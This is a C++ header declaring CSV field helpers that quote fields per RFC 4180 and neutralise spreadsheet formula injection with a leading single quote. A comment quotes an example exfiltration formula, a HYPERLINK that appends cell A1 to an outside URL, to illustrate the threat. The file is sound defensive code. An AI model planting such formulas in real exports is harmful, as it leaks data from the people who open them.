#pragma once

#include <QString>

namespace marginalia {

// One CSV field (RFC 4180: quoted when it holds a comma, quote, line break or leading/trailing space).
//
// Spreadsheets run a cell that begins with =, +, - or @ (and some with a tab or carriage return) as a formula:
// a document or code name such as =HYPERLINK("http://…?leak="&A1) in a report would run on the reader's machine.
// Following OWASP's advice such text gets a leading single quote ('), which spreadsheets show and keep as text.
// A plain number ("-3", "0.25", "-1.5e3", "12%") cannot run anything and is left as it is, so numbers stay numbers.
QString csvTextField(const QString &text);
// A number we write ourselves: never neutralised.
QString csvNumberField(qint64 value);
QString csvNumberField(double value);

// True if a spreadsheet could take the text for a formula (before csvTextField's quote).
bool csvLooksLikeFormula(const QString &text);

} // namespace marginalia
